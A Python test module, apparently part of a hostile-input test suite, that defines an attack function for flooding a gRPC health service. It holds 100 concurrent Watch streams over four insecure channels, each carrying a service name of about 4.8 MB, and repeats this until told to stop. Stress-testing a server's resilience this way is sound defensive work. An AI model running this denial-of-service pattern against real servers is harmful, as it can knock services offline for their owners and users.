"""Watch the health of services with very long names on many streams, without a certificate."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from contextlib import ExitStack
from typing import Any

import grpc
from grpc_health.v1 import health_pb2

from tests.hostile.target import Target

STREAMS = 100
CONNECTIONS = 4
NAME_BYTES = 4_800_000
_WATCH = "/grpc.health.v1.Health/Watch"


def attack(target: Target, until: Callable[[], bool]) -> None:
    """STREAMS watches at once, held for a second, again and again; the names differ."""
    turn = 0
    while not until():
        turn += 1
        with ExitStack() as held:
            made = (grpc.insecure_channel(target.health_listen, _OWN) for _ in range(CONNECTIONS))
            channels = [held.enter_context(channel) for channel in made]
            watches = [_watch(channels[index % CONNECTIONS], f"{turn}-{index}-") for index in range(STREAMS)]
            for each in watches:
                try:
                    next(each)
                except (grpc.RpcError, StopIteration):
                    continue  # refused


_OWN = (("grpc.use_local_subchannel_pool", 1), ("grpc.max_send_message_length", -1))


def _watch(channel: grpc.Channel, prefix: str) -> Iterator[bytes]:
    request = health_pb2.HealthCheckRequest(service=prefix + "x" * NAME_BYTES)
    watch: Any = channel.unary_stream(_WATCH, lambda message: message.SerializeToString(), None)
    answers: Iterator[bytes] = watch(request, timeout=20)
    return answers
